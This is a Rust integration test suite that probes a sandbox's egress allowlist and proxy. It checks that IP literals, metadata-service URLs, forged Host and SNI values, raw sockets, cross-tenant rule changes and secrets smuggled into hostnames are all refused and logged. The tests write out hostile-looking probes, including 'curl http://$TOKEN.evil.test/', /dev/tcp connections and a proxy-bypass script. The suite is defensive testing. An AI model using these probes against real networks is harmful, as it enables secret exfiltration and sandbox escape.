//! Egress allowlists, attacked from inside a sandbox whose rules allow
//! `allowed.test` (routed by the operator's override map to a loopback
//! server) and `localhost` (which resolves to a private address). Every
//! probe that must fail is paired with a control that succeeds, and each
//! refusal must appear in the sandbox's egress log with its reason.

mod servers;

use crate::harness::*;
use crate::reviews::{submit, wait_done};
use reqwest::Method;
use serde_json::{json, Value};
use std::time::Duration;

/// Probes that curl cannot make: a CONNECT followed by a ClientHello for
/// another name, raw HTTP with a forged Host, and raw sockets.
const PROBE_PY: &str = r#"
import errno, socket, ssl, sys
def proxy():
    return socket.create_connection(("127.0.0.1", 3128), timeout=10)
kind = sys.argv[1]
if kind == "sni":
    s = proxy()
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
    head = s.recv(4096)
    assert head.startswith(b"HTTP/1.1 200"), head
    ctx = ssl.create_default_context(cafile="/scratch/ca.pem")
    ctx.check_hostname = False
    name = sys.argv[2] or None
    try:
        t = ctx.wrap_socket(s, server_hostname=name)
        t.sendall(b"GET /sni HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
        print("GOT", t.recv(4096).decode().split("\r\n\r\n")[-1].strip())
    except (ssl.SSLError, OSError) as e:
        print("REFUSED", type(e).__name__)
elif kind == "raw":
    s = proxy()
    s.sendall(sys.argv[2].encode().replace(b"|", b"\r\n"))
    print(s.recv(4096).split(b" ")[1].decode())
elif kind in ("tcp", "udp", "icmp"):
    try:
        if kind == "tcp":
            socket.create_connection((sys.argv[2], int(sys.argv[3])), timeout=5)
        elif kind == "udp":
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01", (sys.argv[2], 53))
            u.settimeout(3)
            u.recv(512)
        else:
            i = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            i.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (sys.argv[2], 0))
            i.settimeout(3)
            i.recv(512)
        print("REACHED")
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e)))
"#;

fn resolve_map(d: &servers::Destinations) -> String {
    let (hp, tp) = (d.http.port(), d.https.port());
    format!(
        "allowed.test:80=127.0.0.1:{hp},allowed.test:443=127.0.0.1:{tp},\
         other.test:80=127.0.0.1:{hp},other.test:443=127.0.0.1:{tp}"
    )
}

fn allowlist(hosts: &[&str]) -> Value {
    let rules: Vec<Value> = hosts.iter().map(|h| json!({ "host": h })).collect();
    json!({ "mode": "allowlist", "rules": rules })
}

/// The sandbox's egress log, all of it.
async fn egress_log(a: &Api, path: &str) -> Vec<Value> {
    let r = a.get(&format!("{path}/egress?limit=1000")).await;
    assert_eq!(r.status, 200, "{}", r.text);
    r.body["items"].as_array().cloned().unwrap_or_default()
}

fn denied_with(log: &[Value], host: &str, reason: &str) -> bool {
    log.iter().any(|e| {
        e["outcome"] == "denied" && e["reason"] == reason && e["host"].as_str() == Some(host)
    })
}

/// The same attacks on both tiers: under gVisor the sandbox's inet sockets
/// are the Sentry's host sockets in a namespace holding only `lo` and the
/// proxy's port (see the runtime's gvisor/egress.rs).
mod an_allowlist_lets_out_only_what_it_names {
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn native() {
        super::allowlist_scenario("native").await
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn gvisor() {
        super::allowlist_scenario("gvisor").await
    }
}

async fn allowlist_scenario(isolation: &str) {
    let d = servers::start().await;
    let map = resolve_map(&d);
    let server = Server::start_env(RuntimeDirs::shared(), &[("WARDEN_EGRESS_RESOLVE", &map)]);
    let (_, a) = server.admin().tenant("egress", None).await;
    let sb = a
        .sandbox(json!({
            "network": allowlist(&["allowed.test", "localhost"]),
            "isolation": isolation,
        }))
        .await;
    a.ok(
        &sb,
        &format!("cat > /scratch/ca.pem <<'EOF'\n{}EOF", d.ca_pem),
    )
    .await;
    a.ok(
        &sb,
        &format!("cat > /scratch/probe.py <<'EOF'\n{PROBE_PY}\nEOF"),
    )
    .await;

    // Controls: the allowed host over HTTP and HTTPS, through the proxy the
    // environment names.
    let env = a.ok(&sb, "echo $HTTP_PROXY $HTTPS_PROXY").await;
    assert_eq!(env.trim(), "http://127.0.0.1:3128 http://127.0.0.1:3128");
    let out = a.ok(&sb, "curl -sS -f 'http://allowed.test/p?q=1'").await;
    assert_eq!(
        out, "hello-plain /p?q=1 host=allowed.test\n",
        "origin form, same Host"
    );
    let out = a
        .ok(
            &sb,
            "curl -sS -f --cacert /scratch/ca.pem https://allowed.test/tls",
        )
        .await;
    assert_eq!(out, "hello-https /tls host=allowed.test\n");

    // Through the proxy, everything else is refused: other names, other
    // ports, and every spelling of an address.
    let (hp, own) = (d.http.port(), servers::host_addresses());
    let mut refused = vec![
        ("http://other.test/".to_string(), "other.test", "no_rule"),
        ("https://other.test/".into(), "other.test", "no_rule"),
        (
            "http://allowed.test:8080/".into(),
            "allowed.test",
            "no_rule",
        ),
        ("http://localhost/".into(), "localhost", "not_public"),
        (
            "http://169.254.169.254/latest/meta-data/".into(),
            "169.254.169.254",
            "ip_literal",
        ),
        (
            "http://93.184.216.34/".into(),
            "93.184.216.34",
            "ip_literal",
        ),
        (
            "https://93.184.216.34/".into(),
            "93.184.216.34",
            "ip_literal",
        ),
        (
            "http://[2606:2800:220:1::1]/".into(),
            "[2606:2800:220:1::1]",
            "ip_literal",
        ),
        (format!("http://127.0.0.1:{hp}/"), "127.0.0.1", "ip_literal"),
    ];
    for ip in &own {
        refused.push((format!("http://{ip}:{hp}/"), ip.as_str(), "ip_literal"));
    }
    for (url, _, _) in &refused {
        let v = a
            .sh(
                &sb,
                &format!("curl -s --noproxy '' -o /dev/null -w '%{{http_code}} %{{http_connect}}' '{url}'"),
            )
            .await;
        let codes = v["stdout"].as_str().unwrap_or_default();
        assert!(
            codes.contains("403"),
            "{url} was not refused by the proxy: {v}"
        );
    }
    // Numeric spellings curl would rewrite are sent raw.
    for host in ["2130706433", "0177.0.0.1", "0x7f.1"] {
        let req = format!("GET http://{host}/ HTTP/1.1|Host: {host}||");
        let code = a
            .ok(&sb, &format!("python3 /scratch/probe.py raw '{req}'"))
            .await;
        assert_eq!(code.trim(), "403", "{host}");
        refused.push((host.to_string(), host, "ip_literal"));
    }

    // SNI must be the CONNECT host; plain HTTP's Host must be the target.
    let sni = |name: &str| format!("python3 /scratch/probe.py sni '{name}'");
    assert_eq!(
        a.ok(&sb, &sni("allowed.test")).await.trim(),
        "GOT hello-https /sni host=allowed.test"
    );
    assert!(a.ok(&sb, &sni("other.test")).await.starts_with("REFUSED"));
    assert!(a.ok(&sb, &sni("")).await.starts_with("REFUSED"));
    let raw = |req: &str| format!("python3 /scratch/probe.py raw '{req}'");
    let ok = a
        .ok(
            &sb,
            &raw("GET http://allowed.test/ HTTP/1.1|Host: allowed.test||"),
        )
        .await;
    assert_eq!(ok.trim(), "200");
    let forged = a
        .ok(
            &sb,
            &raw("GET http://allowed.test/ HTTP/1.1|Host: other.test||"),
        )
        .await;
    assert_eq!(forged.trim(), "403");
    // A second Host after the checked one is not forwarded for the
    // destination to honour (issue 15, item 17).
    let doubled = a
        .ok(
            &sb,
            &raw("GET http://allowed.test/ HTTP/1.1|Host: allowed.test|Host: other.test||"),
        )
        .await;
    assert_eq!(doubled.trim(), "403");
    let origin = a.ok(&sb, &raw("GET / HTTP/1.1|Host: allowed.test||")).await;
    assert_eq!(origin.trim(), "400");

    // Without the proxy there is no way out at all. Control: the server
    // answers the host (test servers listen on loopback only, so a host
    // address is probed for its route alone).
    std::net::TcpStream::connect(d.http).expect("control: the host reaches the server");
    let tcp = a
        .ok(
            &sb,
            &format!("python3 /scratch/probe.py tcp 127.0.0.1 {hp}"),
        )
        .await;
    assert_eq!(
        tcp.trim(),
        "ECONNREFUSED",
        "the sandbox's loopback is its own"
    );
    for ip in own.iter().chain(std::iter::once(&"127.0.0.1".to_string())) {
        let v = a
            .sh(&sb, &format!("curl -sS --noproxy '*' http://{ip}:{hp}/"))
            .await;
        assert_eq!(v["exit_code"], 7, "{v}");
        let v = a
            .sh(&sb, &format!("bash -c 'echo > /dev/tcp/{ip}/{hp}'"))
            .await;
        assert_ne!(v["exit_code"], 0, "{v}");
    }
    for ip in &own {
        let tcp = a
            .ok(&sb, &format!("python3 /scratch/probe.py tcp {ip} {hp}"))
            .await;
        assert_eq!(
            tcp.trim(),
            "ENETUNREACH",
            "a host address must have no route"
        );
    }
    let v = a
        .sh(&sb, "curl -sS --noproxy '*' http://allowed.test/")
        .await;
    assert_eq!(v["exit_code"], 6, "no DNS without the proxy: {v}");
    assert_eq!(
        a.ok(&sb, "python3 /scratch/probe.py udp 8.8.8.8")
            .await
            .trim(),
        "ENETUNREACH"
    );
    let icmp = a.ok(&sb, "python3 /scratch/probe.py icmp 8.8.8.8").await;
    // gVisor's host networking has no ICMP sockets at all.
    let refusals: &[&str] = match isolation {
        "gvisor" => &["EAFNOSUPPORT", "ENETUNREACH"],
        _ => &["ENETUNREACH", "EACCES", "EPERM"],
    };
    assert!(refusals.contains(&icmp.trim()), "{icmp}");

    // Every refusal is in the log with its reason; allowed attempts carry
    // their rule and bytes.
    let path = format!("/v1/sandboxes/{sb}");
    let log = egress_log(&a, &path).await;
    for (what, host, reason) in &refused {
        assert!(
            denied_with(&log, host, reason),
            "{what}: no {reason} entry for {host} in {log:#?}"
        );
    }
    for reason in ["sni_mismatch", "sni_missing", "host_mismatch"] {
        assert!(
            denied_with(&log, "allowed.test", reason),
            "no {reason} in {log:#?}"
        );
    }
    assert!(log.iter().any(|e| e["reason"] == "not_proxy_request"));
    let tls = log
        .iter()
        .find(|e| {
            e["method"] == "CONNECT" && e["host"] == "allowed.test" && e["outcome"] == "allowed"
        })
        .expect("the allowed HTTPS tunnel is logged");
    assert_eq!(tls["rule"], "allowed.test");
    assert!(tls["bytes_down"].as_u64().unwrap() > 100, "{tls}");
    assert_eq!(tls["addr"], format!("127.0.0.1:{}", d.https.port()));

    // Rules change on the running sandbox.
    let put = |rules: Value| a.send(a.req(Method::PUT, &format!("{path}/network")).json(&rules));
    let r = put(allowlist(&["allowed.test", "other.test"])).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.body["network"]["rules"][1]["host"], "other.test");
    assert_eq!(
        a.ok(&sb, "curl -sS -f http://other.test/").await,
        "hello-plain / host=other.test\n"
    );
    let r = put(allowlist(&[])).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let code = a
        .ok(
            &sb,
            "curl -s -o /dev/null -w '%{http_code}' http://allowed.test/",
        )
        .await;
    assert_eq!(code, "403", "an emptied allowlist refuses everything");
    assert_eq!(
        a.get(&path).await.body["network"],
        json!({"mode": "allowlist"})
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn network_requests_are_checked_scoped_and_logged_for_reviews() {
    let d = servers::start().await;
    let map = resolve_map(&d);
    let server = Server::start_env(RuntimeDirs::shared(), &[("WARDEN_EGRESS_RESOLVE", &map)]);
    let admin = server.admin();
    let (_, a) = admin.tenant("alpha", None).await;
    let (_, b) = admin.tenant("beta", None).await;

    for bad in [
        json!({"mode": "allowlist", "rules": [{"host": "1.2.3.4"}]}),
        json!({"mode": "allowlist", "rules": [{"host": "*"}]}),
        json!({"mode": "allowlist", "rules": [{"host": "a.test", "ports": [0]}]}),
        json!({"mode": "none", "rules": [{"host": "a.test"}]}),
        json!({"mode": "open"}),
        json!({"mode": "allowlist", "resolve": {"a.test": "127.0.0.1:1"}}),
    ] {
        let r = a.post("/v1/sandboxes", json!({ "network": bad })).await;
        assert_eq!(r.status, 400, "{bad}: {}", r.text);
    }
    // A sandbox without network has no proxy to change.
    let none = a.sandbox(json!({})).await;
    let r = a
        .send(
            a.req(Method::PUT, &format!("/v1/sandboxes/{none}/network"))
                .json(&allowlist(&["allowed.test"])),
        )
        .await;
    assert_eq!(r.status, 409, "{}", r.text);
    let v = a.sh(&none, "curl -sS http://allowed.test/").await;
    assert_ne!(v["exit_code"], 0, "network none has no proxy: {v}");

    // Another tenant cannot read or change the rules.
    let sb = a
        .sandbox(json!({ "network": allowlist(&["allowed.test"]) }))
        .await;
    assert_eq!(
        b.get(&format!("/v1/sandboxes/{sb}/egress")).await.status,
        404
    );
    let r = b
        .send(
            b.req(Method::PUT, &format!("/v1/sandboxes/{sb}/network"))
                .json(&allowlist(&["evil.test"])),
        )
        .await;
    assert_eq!(r.status, 404);
    assert_eq!(
        a.ok(&sb, "curl -sS -f http://allowed.test/").await,
        "hello-plain / host=allowed.test\n"
    );

    // A review job gets the same proxy, and its log.
    let id = submit(
        &a,
        json!({
            "command": ["sh", "-c", "curl -sS -f http://allowed.test/r > /output/r.txt; curl -s http://other.test/ >/dev/null"],
            "network": allowlist(&["allowed.test"]),
        }),
    )
    .await;
    let done = wait_done(&a, &id, Duration::from_secs(60)).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    let log = egress_log(&a, &format!("/v1/reviews/{id}")).await;
    assert!(
        log.iter()
            .any(|e| e["host"] == "allowed.test" && e["outcome"] == "allowed"),
        "{log:#?}"
    );
    assert!(denied_with(&log, "other.test", "no_rule"), "{log:#?}");
    assert_eq!(b.get(&format!("/v1/reviews/{id}/egress")).await.status, 404);
}

/// A sandbox cannot smuggle one of its secrets into the egress log by
/// naming it as a host or a method: those fields are masked, whatever
/// their case, and the data directory never holds the value.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_sent_as_host_names_are_masked_in_the_egress_log() {
    use crate::secrets::{files_containing, fresh_value, KEY};
    let d = servers::start().await;
    let map = resolve_map(&d);
    let server = Server::start_env(
        RuntimeDirs::shared(),
        &[("WARDEN_EGRESS_RESOLVE", &map), ("WARDEN_SECRETS_KEY", KEY)],
    );
    let (_, a) = server.admin().tenant("smuggler", None).await;
    let value = fresh_value("egress");
    let r = a
        .post("/v1/secrets", json!({"name": "TOKEN", "value": value}))
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let sb = a
        .sandbox(json!({"network": allowlist(&["allowed.test"]), "secrets": ["TOKEN"]}))
        .await;
    for line in [
        "curl -s -o /dev/null -w '%{http_code}' \"http://$TOKEN.evil.test/\"",
        "curl -s -o /dev/null -w '%{http_code}' \"http://$(echo $TOKEN | tr a-z A-Z).evil.test/\"",
        "curl -s -o /dev/null -w '%{http_code}' -X \"$TOKEN\" http://allowed.test/",
    ] {
        let code = a.ok(&sb, line).await;
        assert!(code == "403" || code == "200", "{line}: {code}");
    }
    let log = egress_log(&a, &format!("/v1/sandboxes/{sb}")).await;
    assert!(log.iter().any(|e| e["host"] == "***.evil.test"), "{log:#?}");
    assert!(log.iter().any(|e| e["method"] == "***"), "{log:#?}");
    let text = serde_json::to_string(&log).unwrap().to_ascii_lowercase();
    assert!(!text.contains(&value), "{text}");
    for v in [value.clone(), value.to_ascii_uppercase()] {
        let hits = files_containing(&server.data_dir, v.as_bytes());
        assert!(hits.is_empty(), "the secret is stored in {hits:?}");
    }
}
